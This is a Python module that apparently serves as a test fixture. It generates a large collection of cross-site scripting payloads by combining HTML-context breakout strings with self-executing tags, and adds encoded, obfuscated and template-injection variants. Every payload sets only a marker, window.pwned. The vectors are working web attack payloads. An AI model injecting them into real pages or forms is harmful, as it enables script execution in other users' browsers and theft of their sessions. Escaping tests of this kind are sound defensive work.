"""Texts that would run a script if any place of the page wrote them as they are; each sets `window.pwned`."""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

SCRIPT = "window.pwned=1"

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</option></datalist>",
    "</pre></code>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</svg>",
    "{{7*7}}",
)
"""What ends the place a text might stand in."""

_RUNNERS = (
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<details open ontoggle={SCRIPT}>",
    f"<body onload={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={SCRIPT}>",
)
"""What runs by itself once it is markup."""

_ALONE = (
    f"javascript:{SCRIPT}",
    f"JaVa\tScRiPt:{SCRIPT}",
    f"data:text/html,<script>opener.{SCRIPT}</script>",
    f'" autofocus onfocus="{SCRIPT}',
    f"' autofocus onfocus='{SCRIPT}",
    f'" style="animation:x" onanimationstart="{SCRIPT}',
    f"\\u003cimg src=x onerror={SCRIPT}\\u003e",
    f"&lt;img src=x onerror={SCRIPT}&gt;",
    f"&#60;img src=x onerror={SCRIPT}&#62;",
    f"%3Cimg%20src%3Dx%20onerror%3D{quote(SCRIPT)}%3E",
    f"<<script>{SCRIPT}//<</script>",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"＜script＞{SCRIPT}＜/script＞",
    f"<img/src=x/onerror={SCRIPT}>",
    f"<IMG SRC=x ONERROR={SCRIPT}>",
    f"<img src=x onerror\n=\n{SCRIPT}>".replace("\n", "\x0c"),
    f"<a href=javascript:{SCRIPT}>click</a>",
    f"<form action=javascript:{SCRIPT}><button>",
    f"<base href=javascript:{SCRIPT}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    f"<link rel=stylesheet href=data:,x onload={SCRIPT}>",
    f"<object data=javascript:{SCRIPT}>",
    f"<template><script>{SCRIPT}</script></template><img src=x onerror={SCRIPT}>",
    f"'-{SCRIPT}-'",
    f'"-{SCRIPT}-"',
    f"${{{SCRIPT}}}",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[><img src=x onerror={SCRIPT}>]]>",
)

PAYLOADS: tuple[str, ...] = (*(a + b for a, b in product(_BREAKOUTS, _RUNNERS)), *_ALONE)
"""All of them, each different."""
